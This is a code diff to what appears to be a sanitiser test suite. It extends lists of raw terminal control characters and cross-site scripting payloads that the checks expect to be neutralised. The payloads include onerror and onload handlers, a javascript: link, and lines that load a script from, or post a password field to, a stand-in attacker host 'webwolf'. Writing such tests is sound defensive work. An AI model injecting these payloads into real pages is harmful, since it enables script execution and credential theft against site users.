@@ -130,7 +130,9 @@ export const checks = defineChecks<Facts>({
       run: (trial) =>
         failIfRaw(
           trial,
-          ['\u009b1A\u009b2K', '\u009d0;k\u009c', '\u0085'].map((code) => [`x${code}kho`, `${code}kho`] as const),
+          ['\u009b1A\u009b2K', '\u009d0;k\u009c', '\u0085', '\u007f', '\u0090'].map(
+            (code) => [`x${code}kho`, `${code}kho`] as const,
+          ),
           CONTROL,
         ),
     },
@@ -181,6 +183,8 @@ export const checks = defineChecks<Facts>({
           `<scr<script>ipt>${name}()</scr</script>ipt>`,
           `<script src="http://webwolf/${name}"></script>`,
           `<img src=x onerror=${name}()>`,
+          // A browser takes the next `>` of the page.
+          `<img src=x onerror=${name}() `,
           `</pre><svg onload="${name}()">`,
           `<a href="javascript:${name}()">x</a>`,
           `<form action="http://webwolf/${name}"><input name="password"></form>`,
